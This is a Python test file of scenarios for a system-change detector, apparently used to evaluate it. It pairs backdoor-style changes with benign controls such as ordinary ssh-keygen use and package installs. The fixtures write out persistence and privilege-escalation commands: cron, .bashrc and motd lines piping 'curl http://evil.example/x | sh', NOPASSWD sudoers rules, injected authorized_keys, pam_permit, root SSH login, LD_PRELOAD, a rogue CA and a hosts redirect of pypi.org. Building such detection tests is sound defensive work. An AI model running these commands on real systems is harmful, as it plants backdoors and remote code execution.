"""Dangerous changes of a machine, and harmless ones that look similar."""

from __future__ import annotations

from collections.abc import Iterator

from evaluation.place import Place
from evaluation.scenario import scenario
from evaluation.truth import Apt
from evaluation.truths.system import (
    Accounts,
    Authorities,
    AuthorizedKeys,
    Crontabs,
    Privileged,
    Sshd,
    SudoRules,
    Units,
)

_KEYGEN = "ssh-keygen -q -t ed25519 -N '' -C mallory@evil -f /tmp/key"
_CERTIFICATE = (
    "openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/ca.key -days 30 -subj /CN=Proxy -out"
)


@scenario(
    19,
    "authorized_keys, sudoers, setuid and ld.so.preload",
    AuthorizedKeys(),
    SudoRules(),
    Privileged(),
    expected={("security.preload", "loader", "etc/ld.so.preload", None, None)},
    machine=True,
    warnings={
        "home/dev/.ssh/authorized_keys", "etc/sudoers.d/dev", "opt/app/helper", "etc/ld.so.preload",
    },
)  # fmt: skip
def four_dangers(place: Place) -> Iterator[None]:
    place.run(
        f"useradd -m dev && {_KEYGEN} && mkdir -p /home/dev/.ssh /opt/app && cp /bin/true /opt/app/helper"
    )
    yield
    place.run(
        "cat /tmp/key.pub > /home/dev/.ssh/authorized_keys && chmod 600 /home/dev/.ssh/authorized_keys"
    )
    place.run(
        "echo 'dev ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/dev && chmod 440 /etc/sudoers.d/dev"
    )
    place.run("chmod u+s /opt/app/helper")
    place.run("echo /lib/x86_64-linux-gnu/libm.so.6 > /etc/ld.so.preload")


@scenario(
    40,
    "a program dropped into /usr/local/bin, a cron backdoor",
    Crontabs("root"),
    expected={("executable.added", "usr/local/bin", "updater", None, None)},
    machine=True,
    warnings={"curl -s http://evil.example/x | sh"},
    headline=("evil.example", "updater"),
    stands_in="a local script for `curl … | sh`",
)
def dropped_program(place: Place) -> Iterator[None]:
    yield
    place.run("printf '#!/bin/sh\\ninstall -m 755 /bin/true /usr/local/bin/updater\\n' | sh")
    place.run(
        "(crontab -l 2>/dev/null; echo '*/10 * * * * curl -s http://evil.example/x | sh') | crontab -"
    )


@scenario(40, "setcap on an interpreter, setgid", Privileged(), machine=True,
          warnings={"usr/local/bin/py", "usr/local/bin/reader"})  # fmt: skip
def capability(place: Place) -> Iterator[None]:
    place.run("cp /usr/bin/python3.11 /usr/local/bin/py && cp /bin/cat /usr/local/bin/reader")
    yield
    place.run(
        "setcap cap_setuid+ep /usr/local/bin/py && chgrp shadow /usr/local/bin/reader && chmod g+s /usr/local/bin/reader"
    )


@scenario(
    40,
    "PAM lets everybody in, sshd_config is weaker",
    Sshd(),
    expected={("security.login", "login", "etc/pam.d/common-auth", None, None)},
    machine=True,
    warnings={"etc/pam.d/common-auth", "etc/ssh/sshd_config"},
)
def weaker_logins(place: Place) -> Iterator[None]:
    place.run(
        "sed -i 's/^#PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config"
    )
    yield
    place.run("sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth")
    place.run(
        "sed -i -e 's/^PasswordAuthentication no/PasswordAuthentication yes/' -e 's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config"
    )


@scenario(
    40,
    "sshd_config.d allows root with a password",
    Sshd("etc/ssh/sshd_config.d/99-local.conf"),
    machine=True,
    warnings={"etc/ssh/sshd_config.d/99-local.conf"},
)
def weaker_drop_in(place: Place) -> Iterator[None]:
    yield
    place.write("etc/ssh/sshd_config.d/99-local.conf", "PermitRootLogin yes\n")


@scenario(
    40,
    "a certificate authority of one's own",
    Authorities("usr/local/share/ca-certificates/proxy.crt"),
    machine=True,
    warnings={"usr/local/share/ca-certificates/proxy.crt"},
    headline=("proxy.crt",),
)
def own_authority(place: Place) -> Iterator[None]:
    yield
    place.run(
        f"{_CERTIFICATE} /usr/local/share/ca-certificates/proxy.crt && rm /tmp/ca.key && update-ca-certificates"
    )


@scenario(
    40,
    "/etc/hosts, LD_PRELOAD in a unit, a system-wide pip.conf",
    Units(),
    expected={
        ("security.network", "network", "etc/hosts", None, None),
        ("security.preload", "systemd", "cron.service", None, None),
        ("service.changed", "systemd", "cron.service", None, None),
        ("security.registry", "registry", "etc/pip.conf", None, None),
    },
    machine=True,
    warnings={"cron.service", "etc/hosts", "etc/pip.conf"},
)
def redirected(place: Place) -> Iterator[None]:
    place.write("etc/hosts", "127.0.0.1 localhost\n")
    yield
    place.write("etc/hosts", "127.0.0.1 localhost\n203.0.113.7 pypi.org files.pythonhosted.org\n")
    place.write(
        "etc/systemd/system/cron.service.d/env.conf",
        "[Service]\nEnvironment=LD_PRELOAD=/opt/x.so\n",
    )
    place.write(
        "etc/pip.conf", f"[global]\nindex-url = https://u:{place.canary()}@mirror.example/simple\n"
    )


@scenario(
    40,
    ".bashrc fetches and runs, root gets a key, sudo for a group",
    AuthorizedKeys(),
    SudoRules(),
    expected={("security.startup", "shell", "root/.bashrc", None, None)},
    machine=True,
    warnings={"root/.bashrc", "root/.ssh/authorized_keys", "etc/sudoers"},
)
def for_next_time(place: Place) -> Iterator[None]:
    place.run(f"{_KEYGEN} && mkdir -p /root/.ssh && cat /tmp/key.pub > /root/.ssh/authorized_keys")
    yield
    place.run(
        "ssh-keygen -q -t ed25519 -N '' -f /tmp/key2 && cat /tmp/key2.pub >> /root/.ssh/authorized_keys && rm /tmp/key2*"
    )
    place.run("echo 'curl -fsSL http://evil.example/i.sh | bash' >> /root/.bashrc")
    place.run("echo '%users ALL=(ALL:ALL) NOPASSWD: ALL' >> /etc/sudoers")


@scenario(
    42,
    "ssh-keygen, known_hosts, a comment in .bashrc",
    Accounts(),
    AuthorizedKeys(),
    expected={
        ("config.added", "home/dev/.ssh/known_hosts", "home/dev/.ssh/known_hosts", None, None),
        ("config.changed", "home/dev/.bashrc", "home/dev/.bashrc", None, None),
        ("config.added", "home/dev/.ssh/id_ed25519", "home/dev/.ssh/id_ed25519", None, None),
        (
            "config.added",
            "home/dev/.ssh/id_ed25519.pub",
            "home/dev/.ssh/id_ed25519.pub",
            None,
            None,
        ),
    },
    machine=True,
    benign=True,
)
def ordinary_ssh(place: Place) -> Iterator[None]:
    place.run("useradd -m -s /bin/bash dev")
    yield
    place.run("su dev -c \"ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519\"")
    place.run(
        "su dev -c \"ssh-keygen -y -f ~/.ssh/id_ed25519 | sed 's/^/git.example /' > ~/.ssh/known_hosts\""
    )
    place.run("echo '# remember the milk' >> /home/dev/.bashrc")


@scenario(42, "apt-get install of sudo-like programs: at, fping, ssl-cert", Apt(), Accounts(), Units(),
          machine=True, benign=True, ignored=("config.", "cron.", "generated.", "log."))  # fmt: skip
def privileged_packages(place: Place) -> Iterator[None]:
    # what packages bring besides themselves is judged by the scenarios about packages
    yield
    place.run("apt-get install -y -qq --no-install-recommends at fping ssl-cert libpam-tmpdir")


@scenario(
    40,
    "what runs by itself: motd, udev, autostart, dpkg",
    expected={
        ("security.startup", "login", "etc/update-motd.d/99-news", None, None),
        ("security.startup", "udev", "etc/udev/rules.d/99-usb.rules", None, None),
        ("security.startup", "session", "home/dev/.config/autostart/a.desktop", None, None),
        ("security.startup", "dpkg", "etc/dpkg/dpkg.cfg.d/hook", None, None),
    },
    machine=True,
    warnings={"etc/update-motd.d/99-news", "etc/dpkg/dpkg.cfg.d/hook"},
)
def runs_by_itself(place: Place) -> Iterator[None]:
    place.run("useradd -m dev")
    yield
    place.write(
        "etc/update-motd.d/99-news", "#!/bin/sh\ncurl -s http://evil.example/x | sh\n", 0o755
    )
    place.write("etc/udev/rules.d/99-usb.rules", 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/opt/x"\n')
    place.write("home/dev/.config/autostart/a.desktop", "[Desktop Entry]\nExec=/opt/x\n")
    place.write("etc/dpkg/dpkg.cfg.d/hook", 'post-invoke="/opt/x"\n')


@scenario(
    42,
    "a machine is set up: timezone, hostname, sysctl, limits, a shell for root",
    Accounts(),
    machine=True,
    benign=True,
    ignored=("config.",),
)
def set_up(place: Place) -> Iterator[None]:
    # which configuration files are named, and how, is judged by the scenarios about configuration
    yield
    place.run("ln -sf /usr/share/zoneinfo/Europe/Berlin /etc/localtime && echo box > /etc/hostname")
    place.write("etc/hosts", "127.0.0.1 localhost\n127.0.1.1 box\n")
    place.write("etc/sysctl.d/99-inotify.conf", "fs.inotify.max_user_watches=524288\n")
    place.write("etc/security/limits.d/nofile.conf", "* soft nofile 65536\n")
    place.write(
        "etc/udev/rules.d/51-phone.rules", 'SUBSYSTEM=="usb", MODE="0660", TAG+="uaccess"\n'
    )
    place.run("chsh -s /bin/sh root && usermod -aG users daemon")
